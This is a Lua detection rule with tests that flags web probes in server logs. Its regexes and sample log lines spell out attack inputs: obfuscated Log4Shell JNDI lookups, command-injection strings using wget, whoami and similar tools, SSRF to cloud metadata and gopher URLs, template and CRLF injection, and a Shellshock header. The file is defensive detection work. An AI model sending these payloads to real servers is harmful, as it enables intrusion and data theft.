return rule {
  id          = "web.probe",
  title       = "Web probe from {ip}",
  type        = "Security",
  severity    = "medium",
  description = "Scanners and requests for files that only an attacker asks for; lookups and commands injected into requests.",
  tags        = { "attack.t1595.002", "attack.t1595.003" },
  dedup       = { "ip" },

  any = {
    [[(?i)\$(?:\{|%7b)(?:jndi(?::|%)|\$(?:\{|%7b)(?:lower|upper|env|sys|date|base64)(?::|%))|\$\{::-[a-z]\}]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) /?\S*(?:/\.env|/\.git/|/\.aws/|/\.ssh/|/\.svn/|/\.htpasswd|/\.DS_Store)]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) /?\S*(?:/wp-(?:login|config|admin)\b|/xmlrpc\.php|/phpmyadmin|/phpunit/|/cgi-bin/\S{0,80}(?:sh|cgi|pl)\b|/actuator/(?:env|heapdump)|/server-status\b|/boaform/|/HNAP1|/solr/admin|/manager/html|/vendor/phpunit)]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) /?\S*(?:(?:;|%3b|\||%7c|`|%60)(?:%20|\+)?(?:(?:wget|curl|chmod|bash|cat)(?:%20|\+|\$)|nc%20|nc\+|nc\$|(?:whoami|uname|nslookup)\b)|/bin/(?:sh|bash)\b|(?:\$\(|\$%28|%24%28)(?:whoami|id|uname|curl|wget|cat|sleep|nslookup|ping|bash|sh|nc)\b|[?&](?:cmd|exec)=(?:id|whoami|ls|cat|uname|pwd|dir|net|ping|wget|curl|powershell)\b)]],
    -- Requests to what only the server reaches, templates that calculate, headers smuggled into an answer.
    [[(?i)\b(?:GET|POST|PUT|HEAD) \S{0,400}(?:\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\b100\.100\.100\.200\b|=(?:gopher|dict|ldaps?|tftp|netdoc|jar)(?::|%3a)(?:/|%2f){2})]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) \S{0,400}(?:(?:\{\{|%7b%7b|\$\{|\$%7b|%24\{|%24%7b)\d{1,6}(?:\*|%2a)|%0d%0a(?:set-cookie|location|content-|x-)\S)]],
    [[(?i)\b(?:sqlmap|nikto|nessus|acunetix|masscan|zgrab|nuclei|wpscan|dirbuster|gobuster|ffuf|openvas|w3af|hydra|fimap|netsparker|arachni|havij|zmeu|jorgee|morfeus|censysinspect|l9explore|l9tcpid|nmap scripting engine|fingerprinter)(?:[/ (";]|$)]],
    -- Exploits and back doors that have a path of their own.
    [[(?i)\b(?:GET|POST|PUT|HEAD) \S{0,200}/(?:w00tw00t|muieblackcat|gponform/|_ignition/|dana-na/|global-protect/|remote/fgt_lang|cgi-bin/luci|wls-wsat/|nacos/|druid/index|telescope/requests|debug/default/view|eval-stdin\.php|shell\?|(?:shell|webshell|cmd|c99|r57|wso\d?|b374k)\.(?:php|jspx?|aspx?)\b|id_rsa\b|id_dsa\b|phpinfo\.php|info\.php|adminer(?:-[\d.]+)?\.php|setup\.php|mysqladmin|pma/|sqladmin|cgi-bin/php|invoker/jmxinvoker|jmx-console|autodiscover/autodiscover\.json\?@|ecp/\w+\.js|owa/auth/x\.js|dev/cmdb/|mgmt/tm/util/bash|tmui/|vsanHealth|ui/vropspluginui|\.vscode/|sftp-config\.json|wp-json/wp/v2/users|wp-content/plugins/\S{1,80}/readme\.txt)]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) \S{0,400}(?:invokefunction|call_user_func_array|class\.module\.classLoader|java\.lang\.Runtime|getRuntime\(|%24%7b|allow_url_include|auto_prepend_file|(?:=php|=data|=expect|=phar)(?::|%3a)(?:/|%2f){2}|(?:=https?|=ftp)(?::|%3a)(?:/|%2f){2}\S{1,200}\?\s)]],
    [[(?i)\b(?:GET|HEAD) \S{0,200}/[\w.-]{0,40}(?:backup|dump|database|db|site|www|\.htaccess|web\.config|config)[\w-]{0,20}(?:\.sql|\.zip|\.rar|\.7z|\.tar|\.tgz|\.bak|\.old|\.swp)\b|\b(?:GET|HEAD) \S{0,200}/[\w-]{1,60}\.(?:json|ya?ml|xml|php|env|ini|conf|js|py|jsp|aspx?|sql)(?:\.(?:bak|old|orig|save|swp)\b|~ )]],
    [[\(\) ?\{ ?:? ?;? ?\} ?;|\berror importing function definition for\b]],                       -- Shellshock
    [[\] "(?:\\x16\\x03|\\x03\\x00|\\x05\\x01|SSH-2\.0|EHLO |\S{0,40}mstshash=|(?:CONNECT \S+|GET https?://\S+) HTTP/[\d.]+" [45]\d\d)| NONE/40[05] \d+ [A-Z]+ ]],
    [[\bNOTEXIST - \[(?P<ip>[0-9A-Fa-f.:]+)\]|\bURI too long \(longer than \d+\)]],
    [[(?i)\bmalformed (?:host )?header\b|\binvalid method in request\b|\bclient sent (?:invalid|malformed)\b]],
    [[(?i)\bscript '\S{0,200}' not found or unable to stat]],
    [[(?i)\b(?:File does not exist|script not found or unable to stat): \S{0,200}(?:wp-|phpmyadmin|pma\b|mysql|sqladmin|/(?:ext|v-?web|web)?mails?(?:_\w{1,40})?\b|pmapper|roundcube|horde|/~|admin|\.php|\.cgi|cgi-bin)]],
  },
  none = {
    [[(?i)(?:union(?:%20|\+)|%3cscript|<script|\.\./\.\./|%2e%2e|/\.%2e)]],    -- web.sql_injection, xss, path_traversal
  },
  match = function(_, found)
    for _, hit in ipairs(found) do   -- a lookup runs code where it works
      if text.contains(text.lower(hit.text), "jndi") or text.starts(hit.text, "${") then return { severity = "high" } end
    end
    return true
  end,

  tests = {
    { "dot files", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /.env HTTP/1.1" 404 91 "-" "curl/8"]], expect = 1 },
    { "each kind", log = {
      [[{"level":"info","service":"web","message":"user agent ${jndi:ldap://203.0.113.9/a}"}]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:01 +0000] "GET /app/.git/config HTTP/1.1" 404 91 "-" "curl/8"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /boaform/x HTTP/1.1" 404 91 "-" "curl/8"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:03 +0000] "GET /ping?h=1;wget%20x.example HTTP/1.1" 404 91 "-" "curl/8"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:04 +0000] "GET / HTTP/1.1" 200 91 "-" "masscan/1.3"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:05 +0000] "GET /muieblackcat HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:06 +0000] "GET /a?s=invokefunction&x=1 HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:07 +0000] "GET /old/site-backup.tar.gz HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:08 +0000] "GET / HTTP/1.1" 200 91 "-" "() { :;}; id"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:09 +0000] "\x16\x03\x01\x00" 400 91 "-" "-"]],
      [[Wed Nov 26 10:15:10 2024 - NOTEXIST - [203.0.113.9] File is absent: /manager]],
      [[2024-11-26 10:15:11 WARN malformed header from 203.0.113.9]],
      [[[Tue Nov 26 10:15:12 2024] [error] [client 203.0.113.9] script '/srv/www/x.pl' not found or unable to stat]],
      [[[Tue Nov 26 10:15:13 2024] [error] [client 203.0.113.9] File does not exist: /srv/www/webmail]],
    }, expect = 14 },
    { "no probe", log = {
      [[192.0.2.7 - - [26/Nov/2024:10:15:02 +0000] "GET /shells HTTP/1.1" 200 91 "-" "curl/8"]],
      [[192.0.2.7 - - [26/Nov/2024:10:15:03 +0000] "GET /backup/plan.html?next=http://shop.example/ HTTP/1.1" 200 91 "-" "curl/8"]],
      [[192.0.2.7 - - [26/Nov/2024:10:15:04 +0000] "GET http://shop.example/ HTTP/1.1" 200 91 "-" "curl/8"]],
    }, expect = 0 },
    { "JSON with a lookup", log = [[{"level":"info","service":"web","message":"user agent ${jndi:ldap://203.0.113.9/a}"}]], expect = { { severity = "high" } } },
    { "a lookup in disguise", log = [[{"level":"info","service":"web","message":"user agent ${${lower:j}ndi:ldap://203.0.113.9/a}"}]], expect = { { severity = "high" } } },
    { "a scanner", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET / HTTP/1.1" 200 91 "-" "sqlmap/1.8"]], expect = { { severity = "medium" } } },
    { "a blog about it", log = [[192.0.2.7 - - [26/Nov/2024:10:15:02 +0000] "GET /blog/environment HTTP/1.1" 200 91 "-" "curl/8"]], expect = 0 },
    { "start", log = [[2024-11-26 10:15:02 INFO read /srv/app/.env, profile=prod]], expect = 0 },
    { "another rule's", log = {
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /.env?x=<script HTTP/1.1" 403 91 "-" "-"]],
    }, expect = 0 },
    { "injections: found", log = {
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /?x=${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a} HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /run?cmd=$(whoami) HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /fetch?url=gopher://127.0.0.1:6379/_INFO HTTP/1.1" 404 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /name={{7*7}} HTTP/1.1" 200 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /redirect?to=%0d%0aSet-Cookie:%20admin=1 HTTP/1.1" 302 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /shell.php?cmd=id HTTP/1.1" 200 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET / HTTP/1.1" 200 91 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]],
    }, expect = 8 },
    { "injections: harmless", log = {
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /fonts?family=Open+Sans|Roboto HTTP/1.1" 200 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /run?cmd=start HTTP/1.1" 200 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /a?b=${c} HTTP/1.1" 200 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /notes?text=line1%0d%0aline2 HTTP/1.1" 200 91 "-" "-"]],
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /redirect?url=https://shop.example/cart HTTP/1.1" 302 91 "-" "-"]],
    }, expect = 0 },
    { "a lookup taken apart", log = [[2024-11-26 10:15:01 INFO agent ${${::-j}ndi:ldap://203.0.113.9/a}]], expect = { { severity = "high" } } },
    { "left over: found", log = {
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /config.json.bak HTTP/1.1" 404 91 "-" "-"]],
    }, expect = 1 },
    { "left over: harmless", log = {
      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /config.json HTTP/1.1" 404 91 "-" "-"]],
    }, expect = 0 },
  },
}
